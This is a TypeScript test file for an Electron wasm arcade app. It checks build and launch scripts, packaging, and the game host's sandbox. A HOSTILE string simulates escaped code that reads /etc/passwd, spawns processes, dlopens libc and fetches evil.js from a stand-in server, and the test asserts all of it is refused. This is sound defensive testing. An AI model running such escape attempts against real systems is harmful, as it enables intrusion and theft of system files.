// The desktop app as a user gets it, without Electron's binary (it cannot be
// downloaded here): a stand-in executable records how it is started.
// - `npm run dev` and `npm start` run their real path (ensure-electron →
//   electron-vite) and launch the built main entry;
// - the game host (where games run) is loaded in Chromium with the headers
//   main serves it with, runs Breakout on the JIT, and code running in its
//   worker — as if it had escaped our engine — is refused the file system,
//   processes, native addons and the network;
// - `npm run dist` packages the app against a stand-in Electron folder and the
//   package holds main, preload, renderer, game host and every bundled game.
// One file, because each part builds out/ and they must not run in parallel.
import { listPackage, extractFile } from '@electron/asar';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { extname, join, relative, resolve, sep } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { APP_CSP, GAME_HOST_CSP, GAME_HOST_DIR } from '../../src/main/csp';
import { CHROMIUM, launchChromium } from '../../scripts/lib/chromium';

const ROOT = resolve(import.meta.dirname, '../..');
const pkg = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { main: string };
const temp = mkdtempSync(join(tmpdir(), 'desktop-app-'));
const standInDir = join(temp, 'electron-dist');
const record = join(temp, 'record.json');

interface Record {
  argv: string[];
  cwd: string;
  env: { [name: string]: string };
}

interface Run {
  status: number | null;
  output: string;
}

/** Runs an npm script like a user would, with Electron replaced by the stand-in. */
function npm(args: string[], env: { [name: string]: string } = {}): Promise<Run> {
  const clean = Object.fromEntries(Object.entries(process.env).filter(([name]) => !/^(ELECTRON_|VITE_|NODE_ENV)/.test(name)));
  const child = spawn('npm', args, {
    cwd: ROOT,
    env: { ...clean, ELECTRON_OVERRIDE_DIST_PATH: standInDir, STAND_IN_RECORD: record, ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
  return new Promise((done) => child.on('close', (status) => done({ status, output })));
}

function readRecord(): Record {
  return JSON.parse(readFileSync(record, 'utf8')) as Record;
}

/** What Electron would load for `electron <argv[0]>`: the app folder's package.json "main". */
function launchedEntry(r: Record): string {
  const appDir = resolve(r.cwd, r.argv[0]);
  const appPkg = JSON.parse(readFileSync(join(appDir, 'package.json'), 'utf8')) as { main: string };
  return resolve(appDir, appPkg.main);
}

beforeAll(() => {
  // Electron's loader runs <ELECTRON_OVERRIDE_DIST_PATH>/electron: a launcher for the recorder.
  mkdirSync(standInDir, { recursive: true });
  const launcher = join(standInDir, 'electron');
  writeFileSync(launcher, `#!/bin/sh\nexec "${process.execPath}" "${join(ROOT, 'test/desktop/stand-in-electron.mjs')}" "$@"\n`);
  chmodSync(launcher, 0o755);
  writeFileSync(join(standInDir, 'version'), `v${(JSON.parse(readFileSync(join(ROOT, 'node_modules/electron/package.json'), 'utf8')) as { version: string }).version}`);
});

afterAll(() => rmSync(temp, { recursive: true, force: true }));

describe.skipIf(process.platform === 'win32')('npm run dev / npm start (stand-in Electron)', () => {
  it('npm run dev starts the dev server and launches the app with its URL', async () => {
    rmSync(record, { force: true });
    const run = await npm(['run', 'dev']);
    expect(run.status, run.output).toBe(0);
    const r = readRecord();
    expect(r.argv).toEqual(['.']);
    expect(launchedEntry(r)).toBe(join(ROOT, 'out/main/index.js'));
    expect(r.env['ELECTRON_RENDERER_URL']).toMatch(/^http:\/\/(localhost|127\.0\.0\.1|\[::1\]):\d+\/?$/);
    expect(r.env['ELECTRON_EXEC_PATH']).toBe(join(standInDir, 'electron'));
  });

  it('npm start builds out/ and launches the built main entry', async () => {
    rmSync(record, { force: true });
    const started = Date.now();
    const run = await npm(['start']);
    expect(run.status, run.output).toBe(0);
    expect(run.output).not.toMatch(/Electron uninstall|error during/);
    const r = readRecord();
    expect(r.cwd).toBe(ROOT);
    expect(r.argv).toEqual(['.']);
    const entry = launchedEntry(r);
    expect(entry).toBe(resolve(ROOT, pkg.main));
    expect(relative(ROOT, entry).split(sep).join('/')).toBe('out/main/index.js');
    expect(statSync(entry).mtimeMs).toBeGreaterThanOrEqual(started - 1000); // built by this run
    expect(r.env['ELECTRON_EXEC_PATH']).toBe(join(standInDir, 'electron'));
    expect(r.env['NODE_ENV_ELECTRON_VITE']).toBe('production');
    expect(r.env['ELECTRON_RENDERER_URL']).toBeUndefined();
    // What that entry loads is there too.
    for (const file of ['out/preload/index.cjs', 'out/renderer/index.html', 'out/renderer/game-host/index.html']) {
      expect(existsSync(join(ROOT, file)), file).toBe(true);
    }
  });
});

const TYPES: { [ext: string]: string } = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm' };

/** out/renderer over http with the headers main's arcade:// handler adds (src/main/index.ts). */
function serveRenderer(): Server {
  const dir = join(ROOT, 'out/renderer');
  return createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
    const file = resolve(dir, `.${path}`);
    if (!file.startsWith(dir + sep) || !existsSync(file)) return void res.writeHead(404).end();
    res.writeHead(200, {
      'Content-Type': TYPES[extname(file)] ?? 'application/octet-stream',
      'Content-Security-Policy': path.startsWith(GAME_HOST_DIR) ? GAME_HOST_CSP : APP_CSP,
    });
    res.end(readFileSync(file));
  });
}

function listen(server: Server): Promise<string> {
  return new Promise((done) => server.listen(0, '127.0.0.1', () => done(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
}

/**
 * What code that escaped the engine might try from the game's worker. Plain
 * JavaScript in a string, evaluated as it is (a function here would be
 * rewritten by the test's own transform: its import() would fail for the
 * wrong reason). Resolves to { attempt: 'refused (…)' | 'ALLOWED …' }.
 */
const HOSTILE = `async (target) => {
  const out = {};
  out.globals = ['process', 'require', 'module', 'Buffer', 'document', 'electron'].map((n) => n + ':' + typeof globalThis[n]).join(' ');
  const attempt = async (name, action) => {
    try {
      out[name] = 'ALLOWED ' + String(await action()).slice(0, 60);
    } catch (error) {
      out[name] = ('refused (' + (error && error.message ? error.message : String(error)) + ')').slice(0, 120);
    }
  };
  await attempt('fs', () => import('node:fs'));
  await attempt('child_process', () => import('node:child_process'));
  await attempt('net', () => import('node:net'));
  await attempt('dlopen', () => globalThis.process.dlopen({}, '/usr/lib/x86_64-linux-gnu/libc.so.6'));
  await attempt('fetch', () => fetch(target + '/fetch').then((r) => r.status));
  await attempt('file', () => fetch('file:///etc/passwd').then((r) => r.text()));
  await attempt('xhr', () => {
    const xhr = new XMLHttpRequest();
    xhr.open('GET', target + '/xhr', false);
    xhr.send();
    return xhr.status;
  });
  await attempt('websocket', () => new Promise((resolve, reject) => {
    const ws = new WebSocket(target.replace('http', 'ws') + '/ws');
    ws.onopen = () => resolve('open');
    ws.onerror = () => reject(new Error('websocket failed'));
  }));
  await attempt('script', () => import(target + '/evil.js'));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const w = new Worker(target + '/evil.js');
    w.onerror = () => reject(new Error('worker failed'));
    setTimeout(() => resolve('started'), 500);
  }));
  return out;
}`;

describe.skipIf(!existsSync(CHROMIUM))('the game host: a second wall around the game (Chromium)', () => {
  it('runs a game on the JIT, and code in its worker is refused fs, processes, dlopen and the network', async () => {
    expect(existsSync(join(ROOT, 'out/renderer/game-host/index.html')), 'built by npm start above').toBe(true);
    const app = serveRenderer();
    const outsideRequests: string[] = [];
    const outside = createServer((req, res) => {
      outsideRequests.push(req.url ?? '');
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('export default 1;');
    });
    outside.on('upgrade', (req, socket) => {
      outsideRequests.push(`upgrade ${req.url}`);
      socket.destroy();
    });
    const appUrl = await listen(app);
    const outsideUrl = await listen(outside);
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      await page.goto(`${appUrl}${GAME_HOST_DIR}index.html`);
      const wasm = [...readFileSync(join(ROOT, 'games/breakout/breakout.wasm'))];
      const workerStarted = page.waitForEvent('worker');
      // What the preload does with the port from main; the page keeps the other end, like the app's window.
      await page.evaluate((bytes) => {
        const channel = new MessageChannel();
        const seen: { type: string; meta?: { title: string } }[] = [];
        (window as unknown as { __seen: typeof seen }).__seen = seen;
        channel.port2.onmessage = (event) => seen.push(event.data as (typeof seen)[number]);
        window.postMessage({ type: 'arcade:game-port' }, location.origin, [channel.port1]);
        channel.port2.postMessage({ type: 'load', wasm: new Uint8Array(bytes).buffer, seed: 7 });
      }, wasm);
      const worker = await workerStarted;
      // The game runs: the JIT may compile (eval) under the game host's policy.
      await page.waitForFunction(() => (window as unknown as { __seen: { type: string }[] }).__seen.filter((m) => m.type === 'frame').length > 5, undefined, { timeout: 20_000 });
      const loaded = await page.evaluate(() => (window as unknown as { __seen: { type: string; meta?: { title: string } }[] }).__seen.find((m) => m.type === 'loaded'));
      expect(loaded?.meta?.title).toBe('Breakout');

      // Code that escaped the engine runs inside the game's worker and tries everything.
      const results = (await worker.evaluate(`(${HOSTILE})(${JSON.stringify(outsideUrl)})`)) as { [name: string]: string };
      expect(results['globals']).toBe('process:undefined require:undefined module:undefined Buffer:undefined document:undefined electron:undefined');
      for (const name of ['fs', 'child_process', 'net', 'dlopen', 'fetch', 'file', 'xhr', 'websocket', 'script', 'worker']) {
        expect(results[name], name).toMatch(/^refused/);
      }
      await new Promise((r) => setTimeout(r, 300));
      expect(outsideRequests, 'nothing reached the outside server').toEqual([]);
    } finally {
      await browser.close();
      await new Promise((done) => app.close(done));
      await new Promise((done) => outside.close(done));
    }
  });
});

describe.skipIf(!existsSync(CHROMIUM))('the app page under its strict CSP header (Chromium)', () => {
  it('still runs a game with no eval and no policy violation', async () => {
    const app = serveRenderer();
    const url = await listen(app);
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      const problems: string[] = [];
      page.on('console', (message) => {
        if (message.type() === 'error' || /Content Security Policy|Refused/i.test(message.text())) problems.push(message.text());
      });
      page.on('pageerror', (error) => problems.push(error.message));
      // No preload here, so the page runs the game in its own Web Worker, which gets APP_CSP
      // too (no eval): the interpreter, which needs none.
      await page.goto(`${url}/index.html?game=breakout&engine=interp`);
      await page.waitForFunction(() => {
        const s = (window as unknown as { __arcade?: { state: string; framesApplied: number } }).__arcade;
        return s?.state === 'running' && s.framesApplied > 3;
      }, undefined, { timeout: 30_000 }).catch(async (error: unknown) => {
        const state = await page.evaluate(() => JSON.stringify((window as unknown as { __arcade?: unknown }).__arcade ?? null)).catch(() => '?');
        throw new Error(`${String(error)}\nwhat the page said: ${problems.join('\n') || '(nothing)'}\nits state: ${state}`);
      });
      expect(problems).toEqual([]);
    } finally {
      await browser.close();
      await new Promise((done) => app.close(done));
    }
  });
});

describe.skipIf(process.platform !== 'linux')('npm run dist (stand-in Electron folder)', () => {
  it('packages main, preload, renderer, the game host and every bundled game into app.asar', async () => {
    const output = join(temp, 'dist');
    const run = await npm(['run', 'dist', '--', '--dir', '--linux', '--x64', `-c.electronDist=${standInDir}`, `-c.directories.output=${output}`]);
    expect(run.status, run.output).toBe(0);
    const unpacked = join(output, 'linux-unpacked');
    expect(existsSync(join(unpacked, 'wasm-arcade')), 'the app executable').toBe(true);
    const asar = join(unpacked, 'resources/app.asar');
    const files = listPackage(asar, { isPack: false }).map((f) => f.split(sep).join('/'));

    const packaged = JSON.parse(extractFile(asar, 'package.json').toString()) as { main: string };
    expect(packaged.main).toBe(pkg.main);
    for (const file of ['/out/main/index.js', '/out/preload/index.cjs', '/out/renderer/index.html', '/out/renderer/game-host/index.html']) {
      expect(files, file).toContain(file);
    }
    expect(files.some((f) => /^\/out\/renderer\/game-host\/game-host-worker-[\w-]+\.js$/.test(f)), 'the game host worker').toBe(true);
    expect(files.some((f) => f.startsWith('/node_modules')), 'no node_modules').toBe(false);
    expect(files.some((f) => f.endsWith('.map')), 'no source maps').toBe(false);

    // Every bundled game, byte for byte (Vite names them <game>-<hash>.wasm).
    const games = readdirSync(join(ROOT, 'games')).filter((name) => existsSync(join(ROOT, 'games', name, `${name}.wasm`)));
    expect(games.length).toBeGreaterThan(1);
    for (const name of games) {
      const wanted = readFileSync(join(ROOT, 'games', name, `${name}.wasm`));
      const match = files.filter((f) => new RegExp(`^/out/renderer/assets/${name}-[\\w-]+\\.wasm$`).test(f));
      expect(match, name).toHaveLength(1);
      expect(Buffer.compare(extractFile(asar, match[0].slice(1)), wanted), `${name}.wasm is the committed one`).toBe(0);
    }
  });

  it('has its own 1024×1024 icon for every platform', () => {
    const png = readFileSync(join(ROOT, 'build/icon.png'));
    expect(png.subarray(1, 4).toString()).toBe('PNG');
    expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([1024, 1024]);
  });
});
